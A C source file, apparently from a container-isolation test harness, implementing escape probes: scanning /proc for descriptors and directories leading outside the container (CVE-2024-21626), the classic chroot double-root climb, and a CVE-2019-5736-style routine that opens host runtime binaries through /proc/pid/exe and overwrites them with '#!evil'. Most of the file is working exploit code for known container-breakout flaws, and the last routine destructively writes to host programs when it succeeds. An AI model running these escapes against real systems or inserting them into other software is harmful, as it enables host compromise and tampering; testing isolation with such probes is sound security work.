/* Directories and programs of the outside, by whatever leads there. */

static uint64_t mount_of(int fd) {
  struct statx stat;
  if (statx(fd, "", AT_EMPTY_PATH, STATX_MNT_ID, &stat) != 0) return 0;
  return stat.stx_mnt_id;
}

/* Whether a mount is in our own mount namespace and beneath our root. */
static int mount_is_known(uint64_t id) {
  FILE *table = fopen("/proc/self/mountinfo", "re");
  if (!table) return 0;
  char line[8192];
  int known = 0;
  while (fgets(line, sizeof line, table))
    if (strtoull(line, NULL, 10) == id) known = 1;
  fclose(table);
  return known;
}

/* The directory above all from here, by `..` alone. */
static int climb(int dir) {
  int at = dup(dir);
  for (int i = 0; i < 512 && at >= 0; i++) {
    int above = openat(at, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (above < 0) break;
    struct stat a, b;
    int top = fstat(at, &a) == 0 && fstat(above, &b) == 0 && a.st_dev == b.st_dev && a.st_ino == b.st_ino &&
              mount_of(at) == mount_of(above);
    close(at);
    at = above;
    if (top) break;
  }
  return at;
}

/* Whether climbing from a directory ends elsewhere than at our root. */
static int leads_outside(int dir, const char *marker) {
  int top = climb(dir);
  int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (top < 0 || root < 0) return 0;
  int found = faccessat(top, marker[0] == '/' ? marker + 1 : marker, F_OK, 0) == 0;
  struct stat a, b;
  int other = fstat(top, &a) == 0 && fstat(root, &b) == 0 && mount_of(top) != mount_of(root) &&
              !mount_is_known(mount_of(top));
  close(top);
  close(root);
  return found || other;
}

/* A file of no mount that we have, and not one in memory that nobody can change. */
static int is_foreign_file(int fd) {
  struct stat stat;
  if (fstat(fd, &stat) != 0) return 0;
  if (!S_ISREG(stat.st_mode) && !S_ISBLK(stat.st_mode)) return 0;
  int seals = fcntl(fd, F_GET_SEALS);
  if (seals >= 0 && (seals & (F_SEAL_WRITE | F_SEAL_FUTURE_WRITE))) return 0;
  return !mount_is_known(mount_of(fd));
}

static int is_number(const char *text) { return *text && strspn(text, "0123456789") == strlen(text); }

/* One look at what the processes in sight hold: working directories, roots, descriptors. */
static int look_at_processes(const char *marker, char *found, size_t size) {
  DIR *proc = opendir("/proc");
  if (!proc) return 0;
  struct dirent *entry;
  int self = getpid();
  while ((entry = readdir(proc))) {
    if (!is_number(entry->d_name)) continue;
    char path[1024], target[4096];
    struct stat own, other;
    snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
    /* Another attack, which holds what it has caught. */
    if (atoi(entry->d_name) != self && stat("/proc/self/exe", &own) == 0 && stat(path, &other) == 0 &&
        own.st_dev == other.st_dev && own.st_ino == other.st_ino)
      continue;
    for (const char *const *name = (const char *const[]){"cwd", "root", NULL}; *name; name++) {
      snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, *name);
      int dir = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
      if (dir >= 0 && leads_outside(dir, marker)) {
        snprintf(found, size, "%s", path);
        return 1;
      }
      if (dir >= 0) close(dir);
    }
    snprintf(path, sizeof path, "/proc/%s/fd", entry->d_name);
    DIR *fds = opendir(path);
    struct dirent *fd;
    while (fds && (fd = readdir(fds))) {
      if (!is_number(fd->d_name)) continue;
      if (atoi(entry->d_name) == self && (atoi(fd->d_name) == dirfd(proc) || atoi(fd->d_name) == dirfd(fds)))
        continue;
      snprintf(path, sizeof path, "/proc/%s/fd/%s", entry->d_name, fd->d_name);
      struct stat stat_;
      if (stat(path, &stat_) != 0 || S_ISFIFO(stat_.st_mode) || S_ISSOCK(stat_.st_mode) || S_ISCHR(stat_.st_mode))
        continue;
      int at = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
      if (at < 0) continue;
      int bad = S_ISDIR(stat_.st_mode) ? leads_outside(at, marker) : is_foreign_file(at);
      close(at);
      if (bad) {
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        snprintf(found, size, "%s -> %s", path, target);
        return 1;
      }
    }
    if (fds) closedir(fds);
  }
  closedir(proc);
  return 0;
}

/* CVE-2024-21626 and everything like it: a directory of the outside, by whatever leads there. */
static int reach(const char *marker, double seconds) {
  char found[8192];
  int dot = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dot >= 0 && leads_outside(dot, marker)) return worked("the working directory leads to %s", marker);
  if (dot >= 0) close(dot);
  for (int fd = 3; fd < 64; fd++)
    if (fcntl(fd, F_GETFD) >= 0) return worked("descriptor %d was left open", fd);
  double end = now() + seconds;
  unsigned looks = 0;
  do {
    looks++;
    if (look_at_processes(marker, found, sizeof found)) return worked("%s leads outside", found);
  } while (now() < end);
  errno = 0;
  return refused("%u looks at every process", looks);
}

/* The classic way out of a chroot: root changes its root again, and climbs from where it was. */
static int chroot_climb(const char *marker) {
  mkdir("/tmp/deeper", 0755);
  int here = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (chroot("/tmp/deeper") != 0) return refused("chroot");
  if (here < 0 || fchdir(here) != 0) return refused("fchdir");
  for (int i = 0; i < 64; i++)
    if (chdir("..") != 0) break;
  const char *inside = marker + 1;
  int fd = open(inside, O_RDONLY);
  return fd < 0 ? refused("open %s", marker) : worked("opened %s", marker);
}

/* CVE-2019-5736: what enters the container is opened while it runs and written when it no longer does. */
static int hunt_programs(double seconds) {
  double end = now() + seconds;
  unsigned seen = 0;
  int last = 0, hunted = 0, busy = 0;
  int held[16] = {0};
  char path[512], target[4096];
  while (now() < end) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
      if (!is_number(entry->d_name)) continue;
      snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
      int fd = open(path, O_RDONLY | O_CLOEXEC);
      if (fd < 0) continue;
      seen++;
      if (!is_foreign_file(fd)) {
        close(fd);
        continue;
      }
      hunted++;
      int slot = 0;
      while (slot < 15 && held[slot]) slot++;
      if (held[slot]) close(held[slot]);
      held[slot] = fd;
    }
    if (proc) closedir(proc);
    busy = 0;
    for (int i = 0; i < 16; i++) {
      if (!held[i]) continue;
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int fd = open(path, O_WRONLY | O_CLOEXEC);
      if (fd >= 0) {
        ssize_t length = readlink(path, target, sizeof target - 1);
        target[length < 0 ? 0 : length] = 0;
        if (pwrite(fd, "#!evil\n", 7, 0) == 7) return worked("overwrote %s", target);
      }
      last = errno;
      /* It is said to run before it is said to be on a read-only mount. */
      struct statvfs mount;
      if (last == ETXTBSY && fstatvfs(held[i], &mount) == 0 && (mount.f_flag & ST_RDONLY)) last = EROFS;
      if (last == ETXTBSY) {
        busy = 1;
        continue;
      }
      close(held[i]);
      held[i] = 0;
    }
  }
  /* Something else runs it. It need only wait. */
  if (busy) return worked("a program of the outside can be written as soon as nobody runs it");
  errno = last;
  return refused("%u programs seen, %d of them foreign", seen, hunted);
}
